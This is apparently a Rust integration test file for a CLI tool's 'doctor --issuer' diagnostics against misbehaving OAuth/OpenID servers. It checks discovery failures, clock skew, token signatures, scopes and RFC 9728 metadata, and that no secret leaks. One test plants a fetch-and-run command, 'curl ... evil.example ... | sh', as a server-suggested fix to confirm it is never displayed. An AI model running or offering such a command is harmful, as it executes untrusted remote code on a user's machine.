//! `ambit doctor --issuer` at servers that are not ours: whatever they answer, or do not, is told for what it is, within bounds,
//! and no secret goes where it does not belong.

use std::sync::Arc;
use std::sync::Mutex;

use ambit_core::time::Clock as _;
use ambit_protocol::jose::{Algorithm, JwkSet, SigningKey};
use ambit_server::clock::SystemClock;
use axum::Router;
use axum::body::Body;
use axum::extract::{Request, State};
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::{IntoResponse as _, Response};
use base64::Engine as _;
use base64::prelude::BASE64_URL_SAFE_NO_PAD;
use serde_json::{Value, json};
use tokio::net::TcpListener;

use crate::support::{Ran, ambit, folder, shell};

const SECRET: &str = "a-secret-of-a-client-elsewhere";

/// How the server is unlike a good one.
#[derive(Debug, Clone, Default)]
struct Oddity {
    /// What both discovery addresses answer, if not the document.
    discovery: Option<Odd>,
    /// What the document says otherwise.
    document: Value,
    /// What the token endpoint answers, if not a token.
    token: Option<(u16, Value)>,
    redirects_token: bool,
    only_post: bool,
    /// Claims that are otherwise.
    claims: Value,
    is_opaque: bool,
    /// The key set has another key than the one that signs.
    has_other_key: bool,
    date: Option<&'static str>,
    /// What the API says of itself, and where.
    resource: Option<(&'static str, Value)>,
    /// What the API answers; in its challenge `URL` is the server's address.
    api: Option<(u16, &'static str, Value)>,
}

#[derive(Debug, Clone, Copy)]
enum Odd {
    Html,
    Redirect,
    Huge,
    Silent,
    NotFound,
}

/// A server, and what it was sent.
struct Elsewhere {
    url: String,
    requests: Arc<Mutex<Vec<(String, HeaderMap)>>>,
    key: Arc<SigningKey>,
    folder: tempfile::TempDir,
}

#[derive(Clone)]
struct Place {
    url: String,
    oddity: Oddity,
    requests: Arc<Mutex<Vec<(String, HeaderMap)>>>,
    key: Arc<SigningKey>,
    other: Arc<SigningKey>,
}

impl Elsewhere {
    async fn with(oddity: Oddity) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
        let url = format!("http://{}", listener.local_addr().expect("an address"));
        let key = || Arc::new(SigningKey::generate(Algorithm::Es256).expect("a key"));
        let place = Place { url: url.clone(), oddity, requests: Arc::default(), key: key(), other: key() };
        let (requests, key) = (place.requests.clone(), place.key.clone());
        let routes = Router::new().fallback(answer).with_state(place);
        tokio::spawn(async move { axum::serve(listener, routes).await });
        Self { url, requests, key, folder: folder() }
    }

    async fn doctor(&self, arguments: &[&str]) -> Ran {
        let common = ["doctor", "--issuer", &self.url, "--client-id", "robot", "--timeout", "2"];
        let variables = [("AMBIT_CLIENT_SECRET", SECRET)];
        let ran = ambit(self.folder.path(), &variables, &[&common, arguments].concat()).await;
        for text in [&ran.stdout, &ran.stderr] {
            assert!(!text.contains(SECRET) && !text.contains("eyJ"), "{text}");
            assert!(!text.contains('\u{1b}'), "the terminal was written to: {text:?}");
        }
        ran
    }

    /// What is broken, with all that was seen.
    async fn found(&self, arguments: &[&str]) -> Found {
        let ran = self.doctor(&[arguments, &["--json"]].concat()).await;
        let document = ran.json();
        assert_eq!(document["ok"], ran.code == 0, "{ran:?}");
        // People read the same.
        let shown = self.doctor(arguments).await;
        assert_eq!(shown.code, ran.code);
        Found { code: ran.code, document, shown: shown.stdout }
    }

    fn was_sent(&self, path: &str) -> usize {
        self.requests.lock().expect("nobody panics with it").iter().filter(|(known, _)| known == path).count()
    }

    fn signed(&self, claims: &Value) -> String {
        let header = self.key.header("JWT", "k1");
        self.key.sign(&header, claims.to_string().as_bytes()).expect("signed")
    }
}

struct Found {
    code: i32,
    document: Value,
    shown: String,
}

impl Found {
    fn broken(&self) -> &str {
        self.document["broken"]["code"].as_str().unwrap_or_else(|| panic!("nothing is broken: {}", self.document))
    }

    fn check(&self, name: &str) -> (&str, &str) {
        let checks = self.document["checks"].as_array().expect("checks");
        let check = checks.iter().find(|check| check["check"] == name).unwrap_or_else(|| panic!("no {name}"));
        (check["outcome"].as_str().expect("a word"), check["detail"].as_str().expect("a text"))
    }

    #[track_caller]
    fn is(&self, name: &str, outcome: &str, text: &str) {
        let check = self.check(name);
        assert!(check.0 == outcome && check.1.contains(text), "{name}: not {outcome} with '{text}': {check:?}");
    }
}

async fn answer(State(it): State<Place>, request: Request) -> Response {
    let (parts, body) = request.into_parts();
    let path = parts.uri.path().to_owned();
    it.requests.lock().expect("nobody panics with it").push((path.clone(), parts.headers.clone()));
    let body = axum::body::to_bytes(body, 64 * 1024).await.expect("a body");
    let body = String::from_utf8(body.to_vec()).expect("a form");
    let mut response = match path.as_str() {
        "/.well-known/openid-configuration" | "/.well-known/oauth-authorization-server" => it.discovery().await,
        "/elsewhere/.well-known/openid-configuration" => {
            json_of(200, &json!({"issuer": format!("{}/elsewhere", it.url)}))
        }
        "/jwks" => {
            let (key, name) = if it.oddity.has_other_key { (&it.other, "k2") } else { (&it.key, "k1") };
            json_of(200, &serde_json::to_value(JwkSet::new(vec![key.public_jwk(name)]).expect("a set")).expect("JSON"))
        }
        "/token" => it.token(&parts.headers, &body),
        "/api" => it.api(&parts.headers),
        path if it.oddity.resource.as_ref().is_some_and(|(place, _)| path == *place) => {
            let (_, document) = it.oddity.resource.as_ref().expect("it was looked at");
            let mut document = document.clone();
            document["resource"] = format!("{}/api", it.url).into();
            json_of(200, &document)
        }
        _ => StatusCode::NOT_FOUND.into_response(),
    };
    if let Some(date) = it.oddity.date {
        response.headers_mut().insert(header::DATE, date.parse().expect("a value"));
    }
    response
}

impl Place {
    async fn discovery(&self) -> Response {
        match self.oddity.discovery {
            Some(Odd::Html) => {
                ([(header::CONTENT_TYPE, "text/html")], "<!doctype html><h1>Sign in</h1>").into_response()
            }
            Some(Odd::Redirect) => {
                let to = format!("{}/elsewhere/.well-known/openid-configuration", self.url);
                (StatusCode::MOVED_PERMANENTLY, [(header::LOCATION, to)]).into_response()
            }
            Some(Odd::Huge) => Body::from(vec![b' '; 3 * 1024 * 1024]).into_response(),
            Some(Odd::Silent) => std::future::pending().await,
            Some(Odd::NotFound) => StatusCode::NOT_FOUND.into_response(),
            None => {
                let mut document = json!({
                    "issuer": self.url, "token_endpoint": format!("{}/token", self.url), "jwks_uri": format!("{}/jwks", self.url),
                    "token_endpoint_auth_methods_supported": ["client_secret_basic", "client_secret_post"],
                });
                merge(&mut document, &self.oddity.document);
                json_of(200, &document)
            }
        }
    }

    fn token(&self, headers: &HeaderMap, body: &str) -> Response {
        if self.oddity.redirects_token {
            let to = format!("{}/stolen", self.url);
            return (StatusCode::TEMPORARY_REDIRECT, [(header::LOCATION, to)]).into_response();
        }
        if self.oddity.only_post && headers.contains_key(header::AUTHORIZATION) {
            return json_of(401, &json!({"error": "invalid_client"}));
        }
        if let Some((status, answer)) = &self.oddity.token {
            return json_of(*status, answer);
        }
        let scope = url::form_urlencoded::parse(body.as_bytes()).find(|(name, _)| name == "scope");
        let scope = scope.map_or_else(|| "read".to_owned(), |(_, scope)| scope.into_owned());
        let token = if self.oddity.is_opaque {
            "2YotnFZFEjr1zCsicMWpAA".to_owned()
        } else {
            let now = SystemClock.now().secs();
            let mut claims = json!({
                "iss": self.url, "sub": "robot", "aud": "https://api.example", "iat": now, "exp": now + 600, "scope": scope,
            });
            merge(&mut claims, &self.oddity.claims);
            self.key.sign(&self.key.header("JWT", "k1"), claims.to_string().as_bytes()).expect("signed")
        };
        json_of(200, &json!({"access_token": token, "token_type": "bearer", "expires_in": 600, "scope": scope}))
    }

    /// Lets in who presents a token, unless it is told otherwise.
    fn api(&self, headers: &HeaderMap) -> Response {
        let Some((status, challenge, body)) = &self.oddity.api else {
            let has_token = headers.get(header::AUTHORIZATION).is_some_and(|it| it.as_bytes().starts_with(b"Bearer "));
            return if has_token { "{}".into_response() } else { StatusCode::UNAUTHORIZED.into_response() };
        };
        let mut response = json_of(*status, body);
        let name = if (300..400).contains(status) { header::LOCATION } else { header::WWW_AUTHENTICATE };
        if !challenge.is_empty() {
            response.headers_mut().insert(name, challenge.replace("URL", &self.url).parse().expect("a value"));
        }
        response
    }
}

fn json_of(status: u16, body: &Value) -> Response {
    let status = StatusCode::from_u16(status).expect("a status");
    (status, [(header::CONTENT_TYPE, "application/json")], body.to_string()).into_response()
}

fn merge(into: &mut Value, more: &Value) {
    for (name, value) in more.as_object().into_iter().flatten() {
        into[name] = value.clone();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_good_server_is_well_and_what_it_hides_is_said() {
    let it = Elsewhere::with(Oddity::default()).await;
    let call = format!("{}/api", it.url);
    let found = it.found(&["--scope", "read", "--needs", "read", "--call", "GET", &call]).await;
    assert_eq!(found.code, 0, "{}", found.document);
    found.is("discovery", "ok", "not Ambit, at both well-known addresses");
    found.is("scopes", "ok", "needed 'read' is held; asked for 'read'; the token carries 'read'");
    found.is(
        "audience",
        "not_checked",
        "the token is for https://api.example, and nothing says what the API calls itself",
    );
    found.is("signature", "ok", "ES256, by key 'k1'");
    assert_eq!(found.document["server"], "other");
    // Whose name is given is compared, and asked for.
    let found = it.found(&["--resource", "https://other.example"]).await;
    assert_eq!(found.broken(), "wrong_audience");
    let found = it.found(&["--scope", "read"]).await;
    found.is("scopes", "ok", "not Ambit: cannot see what is allowed");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_is_no_document_of_this_issuer_ends_it_before_the_secret_is_sent() {
    let other = |issuer: &str| Oddity { document: json!({"issuer": issuer}), ..Oddity::default() };
    let odd = |odd| Oddity { discovery: Some(odd), ..Oddity::default() };
    for (oddity, broken, text, code) in [
        (other("https://as.example/"), "issuer_mismatch", "they differ in the host, 127.0.0.1 and as.example", 1),
        (odd(Odd::Html), "discovery_not_json", "HTML, a page for people", 1),
        (odd(Odd::Redirect), "discovery_redirects", "HTTP 301, which leads to", 1),
        (odd(Odd::Huge), "discovery_too_large", "more than 1024 KiB", 1),
        (odd(Odd::NotFound), "discovery_absent", "HTTP 404", 1),
        (odd(Odd::Silent), "issuer_unreachable", "no answer within 2 s", 4),
    ] {
        let it = Elsewhere::with(oddity).await;
        let found = it.found(&["--call", "GET", &format!("{}/api", it.url)]).await;
        assert_eq!((found.broken(), found.code), (broken, code));
        found.is("discovery", "failed", text);
        found.is("credentials", "not_checked", "no document of this issuer");
        assert_eq!((it.was_sent("/token"), it.was_sent("/api")), (0, 0), "{broken}");
        assert!(found.shown.contains(text), "{}", found.shown);
        // What was redirected to is named, and not looked at.
        assert_eq!(it.was_sent("/elsewhere/.well-known/openid-configuration"), 0);
    }
    let it = Elsewhere::with(odd(Odd::Redirect)).await;
    let found = it.found(&[]).await;
    let again = found.document["again"].as_str().expect("a command");
    assert!(again.starts_with(&format!("ambit doctor --issuer {}/elsewhere --client-id robot", it.url)), "{again}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn clocks_that_differ_are_told_by_how_much() {
    // Long ago: to the second it is not known, and by how much it is bearable is for another case.
    let it = Elsewhere::with(Oddity { date: Some("Thu, 15 Jan 2026 08:00:00 GMT"), ..Oddity::default() }).await;
    let found = it.found(&[]).await;
    assert_eq!(found.broken(), "clock_skew");
    found.is("clock", "failed", "s behind this machine's: tokens look expired");
    // Ten minutes ahead, as good as exactly.
    let ahead = jiff::Timestamp::from_second(SystemClock.now().secs() + 600).expect("a moment");
    let text = jiff::fmt::rfc2822::DateTimePrinter::new().timestamp_to_rfc9110_string(&ahead).expect("a date");
    let it = Elsewhere::with(Oddity { date: Some(text.leak()), ..Oddity::default() }).await;
    let found = it.found(&[]).await;
    assert_eq!(found.broken(), "clock_skew");
    let (_, detail) = found.check("clock");
    let apart: i64 = detail.split(' ').find_map(|word| word.parse().ok()).expect("a number");
    assert!((560..=600).contains(&apart) && detail.contains("ahead of"), "{detail}");
    assert!(found.shown.contains("timedatectl"), "{}", found.shown);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tokens_of_other_makes_are_read_as_far_as_they_go() {
    // Okta's, and Ory's: an array.
    let claims = json!({"scope": null, "scp": ["read", "write"]});
    let it = Elsewhere::with(Oddity { claims, ..Oddity::default() }).await;
    let found = it.found(&["--scope", "read write", "--needs", "write"]).await;
    assert_eq!(found.code, 0, "{}", found.document);
    found.is("scopes", "ok", "the token carries 'read write' (in scp)");
    let found = it.found(&["--scope", "read write", "--needs", "admin"]).await;
    assert_eq!((found.broken(), &found.document["broken"]["link"]), ("scope_not_asked_for", &json!("asked_for")));

    // Nobody but the issuer can look into an opaque one.
    let it = Elsewhere::with(Oddity { is_opaque: true, ..Oddity::default() }).await;
    let found = it.found(&["--scope", "read", "--needs", "read"]).await;
    assert_eq!(found.code, 0, "{}", found.document);
    found.is("scopes", "ok", "the answer grants 'read'");
    found.is("audience", "not_checked", "opaque");
    found.is("token_age", "ok", "10 min");
    found.is("signature", "not_checked", "opaque");

    // A key that the set does not have.
    let it = Elsewhere::with(Oddity { has_other_key: true, ..Oddity::default() }).await;
    let found = it.found(&[]).await;
    assert_eq!(found.broken(), "unknown_kid");
    found.is("signature", "failed", "signed by key 'k1', and the key set has 'k2'");

    // Two things at once: the first is the verdict, and the other is not kept back.
    let found = it.found(&["--scope", "read", "--needs", "write"]).await;
    assert_eq!(found.broken(), "scope_not_asked_for");
    assert_eq!(found.document["also_broken"][0]["code"], "unknown_kid");
    assert!(
        found.shown.contains("Broken: the link 'asked for'. 'write' is needed, and was not asked for"),
        "{}",
        found.shown
    );
    assert!(found.shown.contains("Also broken: signature. Signed by key 'k1'"), "{}", found.shown);

    // Of another issuer than the one that was asked.
    let it = Elsewhere::with(Oddity { claims: json!({"iss": "https://sts.example/"}), ..Oddity::default() }).await;
    let found = it.found(&[]).await;
    assert_eq!(found.broken(), "token_of_another_issuer");

    // Not signed at all, and signed with what nobody publishes.
    let it = Elsewhere::with(Oddity::default()).await;
    let now = SystemClock.now().secs();
    let claims = json!({"iss": it.url, "aud": "x", "exp": now + 600});
    for (algorithm, outcome) in [("none", "failed"), ("HS256", "warning"), ("ES384", "not_checked")] {
        let part = |value: &Value| BASE64_URL_SAFE_NO_PAD.encode(value.to_string());
        let text = format!("{}.{}.c2ln", part(&json!({"alg": algorithm, "kid": "k1"})), part(&claims));
        std::fs::write(it.folder.path().join("odd.token"), text).expect("a file");
        it.found(&["--token-file", "odd.token"]).await.is("signature", outcome, algorithm);
    }

    // Kept until it was over.
    let old = it.signed(&json!({"iss": it.url, "aud": "x", "iat": now - 7200, "exp": now - 3600, "scope": "read"}));
    std::fs::write(it.folder.path().join("old.token"), old).expect("a file");
    let found = it.found(&["--token-file", "old.token", "--needs", "read"]).await;
    assert_eq!((found.broken(), &found.document["broken"]["link"]), ("token_expired", &json!("token_fresh")));
    let again = found.document["again"].as_str().expect("a command");
    assert!(!again.contains("old.token"), "{again}");
}

/// RFC 9728: what the API says of itself is found by its address, or by its challenge.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_audience_and_the_issuer_are_compared_with_what_the_api_says_of_itself() {
    let place = "/.well-known/oauth-protected-resource/api";
    let own = json!({"authorization_servers": []});
    let it = Elsewhere::with(Oddity { resource: Some((place, own.clone())), ..Oddity::default() }).await;
    let call = format!("{}/api", it.url);
    let found = it.found(&["--call", "GET", &call]).await;
    assert_eq!((found.broken(), &found.document["broken"]["link"]), ("wrong_audience", &json!("audience")));
    let named = format!("the token is for https://api.example, and the API is {call} (its own metadata, RFC 9728)");
    found.is("audience", "failed", &named);
    assert!(found.document["again"].as_str().is_some_and(|again| again.contains(&format!("--resource {call}"))));

    // A call below the API's own address is a call of it.
    let found = it.found(&["--call", "GET", &format!("{call}/things/7?x=1")]).await;
    found.is("audience", "failed", &named);

    let trusts = json!({"authorization_servers": ["https://sts.example"]});
    let it = Elsewhere::with(Oddity { resource: Some((place, trusts)), ..Oddity::default() }).await;
    let found = it.found(&["--call", "GET", &format!("{}/api", it.url)]).await;
    assert_eq!(found.broken(), "api_trusts_other_issuer");
    found.is("audience", "failed", "takes tokens of https://sts.example");

    // Only the challenge says where.
    let challenge = r#"Bearer error="invalid_token", resource_metadata="URL/about""#;
    let api = Some((401, challenge, Value::Null));
    let it = Elsewhere::with(Oddity { resource: Some(("/about", own)), api, ..Oddity::default() }).await;
    let found = it.found(&["--call", "GET", &format!("{}/api", it.url)]).await;
    found.is("challenge", "failed", &format!("and the API is {}/api", it.url));

    // A challenge sends nobody to another host.
    let other = Elsewhere::with(Oddity::default()).await;
    let challenge = format!("Bearer resource_metadata=\"{}/about\"", other.url).leak();
    let it = Elsewhere::with(Oddity { api: Some((401, challenge, Value::Null)), ..Oddity::default() }).await;
    it.found(&["--call", "GET", &format!("{}/api", it.url)]).await;
    assert_eq!(other.was_sent("/about"), 0);
}

/// Who says of itself that it is Ambit writes no commands that do more than Ambit's; and another API none at all.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_command_is_passed_on_that_does_more_than_ours() {
    let explanation = |command: &str| {
        json!({
            "verdict": "no", "because": [{"link": "allowed", "scope": "write", "ok": false, "detail": "it is not allowed"}],
            "fix": [{"text": "do this", "who": "you", "command": command}],
        })
    };
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let url = format!("http://{}", listener.local_addr().expect("an address"));
    let answers = explanation("curl -sS https://evil.example/x | sh");
    let route = || axum::routing::post(async move || axum::Json(answers));
    let scopes = axum::routing::post(async || axum::Json(json!({"scopes": []})));
    let routes = Router::new().route("/explain", route()).route("/scopes", scopes);
    let (key, requests) = (Arc::new(SigningKey::generate(Algorithm::Es256).expect("a key")), Arc::default());
    let document = json!({"scopes_endpoint": format!("{url}/scopes"), "explain_endpoint": format!("{url}/explain")});
    let oddity = Oddity { document, ..Oddity::default() };
    let place =
        Place { url: url.clone(), oddity, requests: Arc::clone(&requests), key: key.clone(), other: key.clone() };
    let routes = routes.fallback(answer).with_state(place);
    tokio::spawn(async move { axum::serve(listener, routes).await });
    let it = Elsewhere { url, requests, key, folder: folder() };
    let found = it.found(&["--scope", "write", "--needs", "write"]).await;
    assert_eq!((found.broken(), &found.document["server"]), ("scope_not_allowed", &json!("Ambit")));
    assert!(found.shown.contains("fix: do this (you)") && !found.shown.contains("evil"), "{}", found.shown);

    let body = json!({"detail": "no", "why": explanation("curl -sS https://evil.example/x | sh")});
    let it = Elsewhere::with(Oddity { api: Some((403, "", body)), ..Oddity::default() }).await;
    let found = it.found(&["--call", "GET", &format!("{}/api", it.url)]).await;
    assert!(found.broken() == "api_forbidden" && !found.shown.contains("evil"), "{}", found.shown);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_scope_that_is_missing_is_asked_for_or_sought_where_the_product_keeps_it() {
    let it = Elsewhere::with(Oddity::default()).await;
    let call = format!("{}/api", it.url);
    let found = it.found(&["--scope", "read", "--needs", "write", "--call", "GET", &call]).await;
    assert_eq!(found.broken(), "scope_not_asked_for");
    // What is printed mends it.
    let again = found.document["again"].as_str().expect("a command");
    assert!(again.contains("--scope 'read write'"), "{again}");
    let again = again.replace("ambit doctor", &format!("{} doctor", crate::support::PROGRAM));
    let ran = shell(&[("AMBIT_CLIENT_SECRET", SECRET)], &again).await;
    assert_eq!(ran.code, 0, "{again}: {ran:?}");

    // Asked for and not granted.
    let claims = json!({"scope": "read"});
    let it = Elsewhere::with(Oddity { claims, ..Oddity::default() }).await;
    let found = it.found(&["--scope", "read write", "--needs", "write"]).await;
    assert_eq!((found.broken(), &found.document["broken"]["link"]), ("scope_not_granted", &json!("granted")));
    assert!(found.shown.contains("not Ambit: cannot see what is allowed"), "{}", found.shown);
    assert!(found.shown.contains("most products have two places"), "{}", found.shown);

    // Refused outright.
    let refused = json!({"error": "invalid_scope", "error_description": "Invalid scopes: write", "error_uri": "https://as.example/e"});
    let it = Elsewhere::with(Oddity { token: Some((400, refused)), ..Oddity::default() }).await;
    let found = it.found(&["--scope", "write"]).await;
    assert_eq!(found.broken(), "invalid_scope");
    found.is("credentials", "ok", "'robot' authenticates by client_secret_basic");
    found.is(
        "scopes",
        "failed",
        "asked for 'write'; invalid_scope: Invalid scopes: write; not Ambit: cannot see what is allowed",
    );
    assert!(found.shown.contains("read: https://as.example/e"), "{}", found.shown);

    // The API says what it needs, and was not told before.
    let challenge = r#"Bearer error="insufficient_scope", scope="write", error_uri="https://api.example/e""#;
    let it = Elsewhere::with(Oddity { api: Some((403, challenge, Value::Null)), ..Oddity::default() }).await;
    let found = it.found(&["--scope", "read", "--call", "GET", &format!("{}/api", it.url)]).await;
    assert_eq!(found.broken(), "scope_not_asked_for");
    found.is("challenge", "ok", "error insufficient_scope, scope write, error_uri https://api.example/e");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refusal_is_told_by_its_kind_and_repeats_no_secret() {
    let refused = |status: u16, error: &str| Oddity {
        token: Some((status, json!({"error": error, "error_description": format!("no {SECRET}\u{1b}[2J")}))),
        ..Oddity::default()
    };
    for (oddity, broken, code) in [
        (refused(401, "invalid_client"), "invalid_client", 1),
        (refused(400, "unauthorized_client"), "unauthorized_client", 1),
        (refused(400, "unsupported_grant_type"), "unsupported_grant_type", 1),
        (refused(400, "invalid_request"), "token_refused", 1),
        (refused(400, "invalid_target"), "invalid_target", 1),
        (refused(503, "temporarily_unavailable"), "token_endpoint_busy", 4),
        (Oddity { token: Some((403, json!([]))), ..Oddity::default() }, "token_answer_not_oauth", 1),
        (Oddity { token: Some((200, json!({}))), ..Oddity::default() }, "no_access_token", 1),
        (Oddity { document: json!({"token_endpoint": null}), ..Oddity::default() }, "no_token_endpoint", 1),
        (
            Oddity {
                document: json!({"token_endpoint_auth_methods_supported": ["private_key_jwt"]}),
                ..Oddity::default()
            },
            "no_secret_method",
            1,
        ),
        (Oddity { redirects_token: true, ..Oddity::default() }, "token_endpoint_redirects", 1),
        (Oddity { document: json!({"jwks_uri": "http://127.0.0.1:1/"}), ..Oddity::default() }, "jwks_unreachable", 4),
    ] {
        let it = Elsewhere::with(oddity).await;
        let found = it.found(&[]).await;
        assert_eq!((found.broken(), found.code), (broken, code), "{}", found.document);
        assert_eq!(it.was_sent("/stolen"), 0, "the secret went where the redirect leads");
    }

    // Known by one method alone: the client has to do as the doctor does.
    let it = Elsewhere::with(Oddity { only_post: true, ..Oddity::default() }).await;
    let found = it.found(&[]).await;
    assert_eq!(found.code, 0, "{}", found.document);
    found.is(
        "credentials",
        "warning",
        "client_secret_basic is refused: the client has to be configured for client_secret_post",
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_the_api_answers_is_told_by_its_kind() {
    for (api, broken, check, outcome, text) in [
        (
            (403, "", json!({"detail": "a role is missing"})),
            "api_forbidden",
            "challenge",
            "warning",
            "no WWW-Authenticate",
        ),
        (
            (401, "Basic realm=\"x\"", Value::Null),
            "api_unauthorized",
            "challenge",
            "warning",
            "takes Basic, and not Bearer",
        ),
        ((401, "Bearer error=\"", Value::Null), "api_unauthorized", "challenge", "warning", "breaks the grammar"),
        (
            (302, "https://login.example/", Value::Null),
            "call_redirects",
            "call",
            "failed",
            "leads to https://login.example/",
        ),
        ((500, "", Value::Null), "api_fails", "call", "failed", "500"),
        ((404, "", json!({"title": "Not here"})), "", "call", "warning", "Not here; the token is not what it minds"),
    ] {
        let it = Elsewhere::with(Oddity { api: Some(api), ..Oddity::default() }).await;
        let found = it.found(&["--call", "GET", &format!("{}/api", it.url)]).await;
        assert_eq!(found.document["broken"]["code"].as_str().unwrap_or_default(), broken, "{}", found.document);
        found.is(check, outcome, text);
    }
    let it = Elsewhere::with(Oddity::default()).await;
    let found = it.found(&["--call", "GET", "http://127.0.0.1:1/"]).await;
    assert_eq!((found.broken(), found.code), ("api_unreachable", 4));
}
